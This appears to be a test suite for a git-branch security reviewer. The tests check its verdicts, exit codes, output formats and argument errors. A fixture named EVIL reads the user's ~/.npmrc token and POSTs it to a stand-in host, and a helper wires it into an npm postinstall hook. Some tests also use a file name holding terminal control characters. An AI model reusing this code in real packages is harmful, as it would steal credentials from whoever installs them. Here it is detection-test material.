import { execFileSync } from "node:child_process";
import { readdirSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect, test } from "vitest";
import { Review } from "../../src/model/review.ts";
import { commitFiles, emptyRepository, git, scratchFolder } from "../git/scratch.ts";
import { gatehouse } from "./gatehouse.ts";

const EVIL = `const fs = require("fs");
const https = require("https");
const token = fs.readFileSync(require("os").homedir() + "/.npmrc", "utf8");
https.request({ host: "collector.example.invalid", method: "POST" }).end(token);
`;

/** A repository whose topic branch has the given files beyond main. */
function withTopic(files: Record<string, string | Buffer>): string {
  const folder = emptyRepository();
  commitFiles(folder, { "package.json": '{"name":"x","version":"1.0.0"}\n', "README.md": "# x\n" });
  git(folder, "checkout", "-q", "-b", "topic");
  commitFiles(folder, files);
  return folder;
}

function withAttack(): string {
  return withTopic({
    "package.json": '{"name":"x","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}\n',
    "setup.js": EVIL,
  });
}

test("a harmless change ends with 0 and says what was compared", async () => {
  const folder = withTopic({ "README.md": "# x\n\nMore words.\n" });
  const run = await gatehouse(folder, ["review"]);
  expect(run.code).toBe(0);
  expect(run.out).toMatch(/^clean\n/);
  expect(run.err).toContain("merge base with main");
  expect(run.err).toContain("Uncommitted work is not part of it");
});

test("an attack ends with 1, names what would happen and runs nothing", async () => {
  const folder = withAttack();
  const run = await gatehouse(folder, ["review", "--format", "json"]);
  expect(run.code).toBe(1);
  const review = Review.parse(JSON.parse(run.out));
  expect(review.verdict).toBe("malicious");
  const found = review.findings.find(({ rule }) => rule === "credentials/read-and-send");
  expect(found).toMatchObject({
    path: "setup.js",
    triggers: expect.arrayContaining(["install"]) as unknown,
  });
});

test.each([
  { format: "text", begins: /^malicious\n/ },
  { format: "markdown", begins: /^# Gatehouse review: malicious/ },
  { format: "sarif", begins: /^\{/ },
])("the format $format is written to standard output alone", async ({ format, begins }) => {
  const run = await gatehouse(withAttack(), ["review", `--format=${format}`]);
  expect(run.code).toBe(1);
  expect(run.out).toMatch(begins);
  if (format === "sarif") expect(JSON.parse(run.out)).toMatchObject({ version: "2.1.0" });
  expect(run.err).not.toContain("internal error");
});

test("what could not be analysed ends with 4", async () => {
  const program = Buffer.concat([
    Buffer.from("#!/usr/bin/env node\n"),
    Buffer.alloc(5 * 1024 * 1024, 32),
  ]);
  const run = await gatehouse(withTopic({ "tool.js": program }), ["review", "--format", "json"]);
  expect(run.code).toBe(4);
  expect(Review.parse(JSON.parse(run.out)).unanalysed.map(({ path }) => path)).toContain("tool.js");
});

test("the review starts where HEAD left the default branch, not at its tip", async () => {
  const folder = withTopic({ "a.md": "a\n" });
  git(folder, "checkout", "-q", "main");
  commitFiles(folder, { "setup.js": EVIL });
  git(folder, "checkout", "-q", "topic");
  const run = await gatehouse(folder, ["review", "--format", "json"]);
  expect(Review.parse(JSON.parse(run.out)).stats.files).toBe(1);
  expect(run.code).toBe(0);
});

test("another folder, base and head can be named", async () => {
  const folder = withAttack();
  const args = ["review", "--repo", folder, "--base", "topic", "--head", "main"];
  const run = await gatehouse(scratchFolder(), args);
  expect(run.code).toBe(0);
});

test("a hostile file name reaches the terminal without its control characters", async () => {
  const folder = withTopic({ "evil\u001b[2J\u202e.js": EVIL, "x.json": '{"scripts":{}}' });
  const run = await gatehouse(folder, ["review"]);

  expect(run.out + run.err).not.toMatch(/[\u001b\u202e]/);
});

test.each([
  { args: ["review", "--bse", "main"], says: "did you mean --base?" },
  { args: ["review", "--format", "jsn"], says: "did you mean json?" },
  { args: ["review", "--fail-on", "everything"], says: "malicious, suspicious" },
  { args: ["review", "--base"], says: "--base needs a value" },
  { args: ["review", "--base", "--head"], says: "--base needs a value" },
  { args: ["review", "--base", "a", "--base", "b"], says: "stands twice" },
  { args: ["review", "extra"], says: '"extra" is one word too many' },
  { args: ["review", "--base", "nowhere"], says: '"nowhere" names no commit here' },
  { args: ["review", "--head=--all"], says: '"--all" names no commit here' },
  { args: ["review", "--head", "main"], says: "has nothing that main has not" },
  { args: ["review", "--repo", "/nonexistent"], says: "there is no folder" },
  { args: ["review", "--repo", "/"], says: "not in a git repository" },
  { args: ["reveiw"], says: "did you mean review?" },
  { args: ["constructor"], says: "there is no command" },
  { args: ["preview", "--last", "0"], says: "from 1 to 500" },
  { args: ["rules", "explain", "credentials/read-and-sent"], says: "credentials/read-and-send?" },
  { args: ["rules", "lst"], says: "did you mean list?" },
  { args: ["config", "check"], says: "it is one of validate" },
])("$args is wrong use", async ({ args, says }) => {
  const run = await gatehouse(withTopic({ a: "1" }), args);
  expect(run.err).toContain(says);
  expect(run.code).toBe(2);
  expect(run.out).toBe("");
});

test("a fault of ours ends with 3 and is no verdict", async () => {
  const folder = withTopic({ "a.md": "a\n" });
  const tree = git(folder, "rev-parse", "HEAD^{tree}");
  execFileSync("rm", ["-f", join(folder, ".git/objects", tree.slice(0, 2), tree.slice(2))]);
  const run = await gatehouse(folder, ["review"]);
  expect(run.code).toBe(3);
  expect(run.out).toBe("");
  expect(run.err).toContain("are not all in this clone");
});

test("nothing is left in the temporary folder", async () => {
  const temporary = scratchFolder();
  const env = { TMPDIR: temporary };
  await gatehouse(withAttack(), ["review"], { env });
  expect(readdirSync(temporary)).toEqual([]);
  expect(tmpdir()).not.toBe(temporary);
});
